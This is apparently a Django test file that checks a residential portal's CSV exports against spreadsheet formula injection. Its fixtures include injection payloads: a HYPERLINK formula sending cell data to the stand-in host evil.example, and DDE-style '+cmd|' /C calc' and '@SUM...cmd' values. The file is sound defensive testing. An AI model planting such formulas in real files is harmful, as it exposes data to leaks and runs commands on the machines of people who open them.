"""Issue 16, finding 10: no CSV the portal writes carries a spreadsheet formula. Text from
users (a rider id, a gate's name, a flat's label) that starts with = + - @, a tab or a
carriage return is written with a leading apostrophe, so Excel and LibreOffice show it as
text instead of running it."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone

from communities.tests.factories import GateFactory
from core.spreadsheet import csv_safe
from governance.models import Choice, RollEntry
from governance.tests.factories import owners_each_one_unit, resolution_opened, votes_cast
from riders.models import AccessEvent
from riders.tests.factories import RiderFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_starts_like_a_formula_is_written_as_text(start):
    assert csv_safe(f"{start}1+1") == f"'{start}1+1"


def test_ordinary_cells_and_numbers_are_left_alone():
    assert [csv_safe(v) for v in ("MT-77", "北门", "", 5, -3, 1.5, None)] == [
        "MT-77",
        "北门",
        "",
        5,
        -3,
        1.5,
        None,
    ]


def test_events_csv_neutralises_formulas_in_rider_ids_and_gate_names(client, staff_user, community):
    gate = GateFactory(community=community, name="+cmd|' /C calc'!A0")
    rider = RiderFactory(platform_rider_id=HYPERLINK)
    AccessEvent.objects.create(
        gate=gate,
        rider=rider,
        direction="in",
        decision="open",
        reason="ok",
        source="online",
        occurred_at=timezone.now(),
    )
    client.force_login(staff_user)
    response = client.get(reverse("dashboard:events_csv", args=[community.slug]))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][1] == "'+cmd|' /C calc'!A0"
    assert rows[1][-1] == "'" + HYPERLINK
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_ballots_csv_neutralises_formulas_in_house_numbers(client, community, staff_user):
    owners = owners_each_one_unit(community, 1)
    resolution = resolution_opened(community)
    votes_cast(resolution, owners, Choice.FOR)
    RollEntry.objects.filter(resolution=resolution).update(unit_labels="@SUM(1+1)*cmd")
    client.force_login(staff_user)
    response = client.get(reverse("governance:ballots_csv", args=[community.slug, resolution.pk]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][0] == "'@SUM(1+1)*cmd"


def test_every_csv_the_portal_writes_goes_through_the_safe_writer():
    """csv.writer / DictWriter appear only in core/spreadsheet.py: a new export that
    wrote CSV on its own would carry formulas again."""
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if relative.startswith((".venv/", "var/", "bench/", "tools/")) or "/tests/" in relative:
            continue
        if relative.startswith("tests/") or relative == "core/spreadsheet.py":
            continue
        if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            offenders.append(relative)
    assert offenders == []
